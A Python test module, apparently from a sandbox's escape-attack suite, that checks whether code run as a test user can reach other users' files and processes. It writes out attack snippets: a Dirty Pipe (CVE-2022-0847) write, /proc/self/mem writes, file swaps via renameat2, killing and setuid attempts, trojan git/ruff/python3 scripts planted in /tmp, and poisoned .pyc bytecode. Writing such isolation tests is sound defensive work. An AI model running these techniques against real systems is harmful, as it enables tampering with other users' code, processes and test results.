"""Tool user, test user and keeper, from the test user's side."""

from aurora.domain.runs import ExecEnd
from tests.attacks.escapes.attempt import Attempt, as_tests, of_code
from tests.attacks.escapes.ground import Ground

GROUP = "other users"

MARK = "import os; open('/work/private/found', 'w').write('ran')"


async def plant_programs(ground: Ground) -> str:
    """Programs and settings left where the tool user might find them."""
    await ground.tests(
        "import os\n"
        "for folder in ('/tmp', '/dev/shm', '/work/tree', '/tmp/tests/home', '/tmp/tests'):\n"
        "    for name in ('git', 'ruff', 'python3', 'sitecustomize.py', '.gitconfig', 'ruff.toml', 'pyproject.toml'):\n"
        "        try:\n"
        "            open(f'{folder}/{name}', 'w').write('#!/bin/sh\\ntouch /work/private/found\\n')\n"
        "            os.chmod(f'{folder}/{name}', 0o755)\n"
        "        except OSError: pass\n"
    )
    for argv in (["git", "status"], ["ruff", "check", "app.py"], ["python3", "-c", "print()"]):
        await ground.box.execute(argv)
    left = await ground.tool(
        "import os; print([p for p in ('/tmp/git', '/dev/shm/git', '/work/tree') if os.path.lexists(p)])"
    )
    return "" if left.stdout.strip() == "[]" else left.stdout


LOCKS = """
import fcntl
for path in ("app.py", "src/shop.py"):
    fd = os.open(path, os.O_RDONLY)
    fcntl.flock(fd, fcntl.LOCK_EX)
    try: fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK); won("a lease")
    except OSError: pass
subprocess.Popen(["setsid", "sleep", "600"], close_fds=False, pass_fds=(fd,))
"""


async def locks(ground: Ground) -> str:
    """The copy's code is the draft's by another name, and so are its locks."""
    first = await as_tests(LOCKS)(ground)
    free = await ground.tool(
        "import fcntl, os\nfor p in ('app.py', 'src/shop.py'): fcntl.flock(os.open(p, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)\nprint('FREE')"
    )
    return first or ("" if "FREE" in free.stdout else free.stderr[-200:])


DIRTY_PIPE = """
before = open("app.py", "rb").read()
r, w = os.pipe()
for _ in range(16): os.write(w, bytes(4096))
for _ in range(16): os.read(r, 4096)
fd = os.open("app.py", os.O_RDONLY)
os.splice(fd, w, 1, offset_src=0)
os.write(w, b"EVIL")
if open("app.py", "rb").read() != before: won("written")
"""
SHARED_MAPPING = """
import mmap, re
with open("app.py", "rb") as file:
    page = mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ)
    at = next(int(line.split("-")[0], 16) for line in open("/proc/self/maps") if line.rstrip().endswith("/app.py"))
    memory = os.open("/proc/self/mem", os.O_RDWR)
    tries(lambda: os.pwrite(memory, b"EVIL", at))
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
if libc.mprotect(at, 4096, 3) == 0: won("mprotect")
"""
EXCHANGE = """
open("mine.py", "w").close(); os.mkdir("mine")
def renameat2(old, new, flags):
    if libc.syscall(316, -100, old, -100, new, flags) == -1: raise OSError(ctypes.get_errno(), "")
    return old
tries(*(lambda o=o, n=n, f=f: renameat2(o, n, f) for o, n in ((b"mine.py", b"app.py"), (b"mine", b"tests"), (b"mine.py", b"tests/test_app.py"))
        for f in (0, 2, 4)))
fd = os.open(".", os.O_TMPFILE | os.O_RDWR)
tries(lambda: os.link(f"/proc/self/fd/{fd}", "app.py", follow_symlinks=True))
"""
FLAGS = """
import fcntl
os.makedirs("mine/deep"); open("mine/deep/x", "w").close()
nobody = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, 0, 0xffffffff) for tag in (1, 4, 32))
for path in ("mine/deep/x", "mine/deep", "mine"):
    fd = os.open(path, os.O_RDONLY)
    for flags in (0x10, 0x20): tries(lambda: fcntl.ioctl(fd, 0x40086602, struct.pack("l", flags)))
    for name in ("system.posix_acl_access", "system.posix_acl_default"):
        try: os.setxattr(path, name, nobody)
        except OSError: pass
"""
STOPPED = (
    "import os, signal, time\nos.kill(os.getppid(), signal.SIGSTOP)\nif os.fork(): time.sleep(600)\nwhile True: pass\n"
)


async def stopped_server(ground: Ground) -> str:
    run = await ground.tests(STOPPED, 1)
    after = await ground.tests("print('alive')")
    return "" if run.end is ExecEnd.KILLED and after.stdout == "alive\n" else f"{run.end}, then {after.end}"


LIMITS = """
import resource
for kind, limit in (("NOFILE", 4), ("AS", 1 << 20), ("CPU", 1), ("STACK", 4096), ("NPROC", 1), ("FSIZE", 0)):
    try: resource.prlimit(os.getppid(), getattr(resource, "RLIMIT_" + kind), (limit, limit))
    except (OSError, ValueError): pass
os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
"""

ATTEMPTS = (
    of_code(
        "read the draft, git's folder and the tool user's home", GROUP, "what the tests are not given: other branches, notes",
        "tries(*(lambda p=p: os.listdir(p) for p in ('/work', '/work/draft', '/work/git', '/work/private')),"
        " *(lambda p=p: open(p).read() for p in ('/work/draft/app.py', '/work/git/config', '/work/git/HEAD')))",
    ),
    of_code(
        "write into the draft", GROUP, "code committed that nobody checked",
        "tries(*(lambda p=p: opened(p, os.O_WRONLY | os.O_CREAT) for p in ('/work/draft/app.py', '/work/draft/new.py', '/work/git/HEAD', '/work/x')),"
        " lambda: os.rename('/work/draft', '/work/other'), lambda: os.symlink('/etc', '/work/private2'), lambda: os.rmdir('/work/private'))",
    ),
    of_code(
        "change the draft's files through their hard links in the copy", GROUP, "the same, by the other name",
        "tries(lambda: opened('app.py', os.O_WRONLY), lambda: os.truncate('app.py', 0), lambda: os.chmod('app.py', 0o777),"
        " lambda: os.chown('app.py', 1002, 1002), lambda: os.utime('app.py', (0, 0)), lambda: os.setxattr('app.py', 'user.x', b'1'),"
        " lambda: os.link('app.py', 'linked.py') or opened('linked.py', os.O_WRONLY))",
    ),
    of_code(
        "remove, move or replace tests and code in the copy", GROUP, "a suite that tests something else",
        "open('mine.py', 'w').close()\n"
        "tries(lambda: os.unlink('tests/test_app.py'), lambda: os.rename('tests', 'x'), lambda: os.rename('mine.py', 'app.py'),"
        " lambda: os.rename('tests/test_app.py', 'y'), lambda: os.rename('/work/tree', '/work/x'), lambda: os.rmdir('tests'),"
        " lambda: os.replace('mine.py', 'tests/test_app.py'), lambda: os.link('mine.py', 'app.py'))",
    ),
    of_code(
        "kill, stop and wake processes of other users", GROUP, "the draft's server, the keeper, or what they do next",
        "pids = list(others())\nassert {1000, 1001} <= {user for _, user in pids}\n"
        "for pid, user in pids:\n"
        "    tries(*(lambda s=s: os.kill(pid, s) for s in (0, signal.SIGSTOP, signal.SIGCONT, signal.SIGTERM, signal.SIGKILL)),"
        " lambda: signal.pidfd_send_signal(os.pidfd_open(pid), signal.SIGKILL))",
    ),
    of_code(
        "limits and priority of other users' processes", GROUP, "the draft's server starved",
        "import resource\nfor pid, _ in others():\n"
        "    tries(lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)), lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),"
        " lambda: os.sched_setaffinity(pid, {0}), lambda: os.setpriority(os.PRIO_PROCESS, 0, -20))",
    ),
    of_code(
        "become the tool user or the keeper", GROUP, "the draft itself",
        "tries(*(lambda u=u, f=f: f(u) for u in (1000, 1001, 0) for f in (os.setuid, os.seteuid, os.setgid, os.setegid)),"
        " *(lambda u=u: os.setresuid(u, u, u) for u in (1000, 1001)), lambda: os.initgroups('tool', 1000))",
    ),
    of_code(
        "raise one's own limits", GROUP, "more memory, files and processes than allowed",
        "import resource\n"
        "for name in ('FSIZE', 'NOFILE', 'CORE'):\n"
        "    kind = getattr(resource, 'RLIMIT_' + name)\n"
        "    try: resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2)\n"
        "    except (OSError, ValueError): continue\n"
        "    won(name)",
    ),
    Attempt("locks on the draft's files through the copy", GROUP, "a tool that waits for ever", locks),
    of_code("write a read-only file by a pipe", GROUP, "the draft changed through its pages (CVE-2022-0847)", DIRTY_PIPE),
    of_code("write a read-only file by its mapping", GROUP, "the draft changed through its pages", SHARED_MAPPING),
    of_code("exchange files and fill in nameless ones", GROUP, "a suite that tests something else", EXCHANGE),
    Attempt(
        "flags and access lists that lock everybody out", GROUP, "something that can't be swept",
        as_tests(FLAGS, then="if os.path.lexists('mine'): won('left')"),
    ),
    Attempt(
        "limits of the server that started the run", GROUP, "a run without a judge, or one that is believed",
        as_tests(LIMITS, then="import resource\nif resource.getrlimit(resource.RLIMIT_NOFILE)[0] < 100: won('the next one has them')", may_die=True),
    ),
    Attempt("stop the server that started the run", GROUP, "a worker that waits for ever", stopped_server, slow=True),
    Attempt(
        "programs left for the tool user", GROUP, "code run by who may write the draft", plant_programs,
    ),
    Attempt(
        "poisoned bytecode left for the next run", GROUP, "a test module that is not what the file says",
        as_tests(
            "import py_compile\nopen('/tmp/evil.py', 'w').write('def test_value(): pass\\n')\n"
            "os.makedirs('tests/__pycache__', exist_ok=True)\n"
            "cfile = f'tests/__pycache__/test_app.{sys.implementation.cache_tag}.pyc'\n"
            "tries(lambda: py_compile.compile('/tmp/evil.py', cfile=cfile))",
            then="if os.listdir('tests/__pycache__'): won('left')",
        ),
    ),
)  # fmt: skip
